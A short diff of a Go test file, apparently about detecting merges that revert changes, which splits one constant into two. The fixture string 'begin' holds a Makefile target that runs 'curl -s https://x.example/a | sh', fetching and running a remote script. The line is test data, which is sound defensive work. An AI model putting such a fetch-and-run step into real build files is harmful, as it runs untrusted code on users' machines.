@@ -8,7 +8,8 @@ import (
 
 // What a merge takes back is its own change, though no line of it is new.
 func TestAttackMergeTakesBack(t *testing.T) {
-	const begin, mended = "CFLAGS = -O2\nall:\n\tcurl -s https://x.example/a | sh\n", "CFLAGS = -O2 -fstack-protector\nall:\n"
+	const begin = "CFLAGS = -O2\nall:\n\tcurl -s https://x.example/a | sh\n"
+	const mended = "CFLAGS = -O2 -fstack-protector\nall:\n"
 	for name, c := range map[string]struct {
 		before [2]string
 		now    string
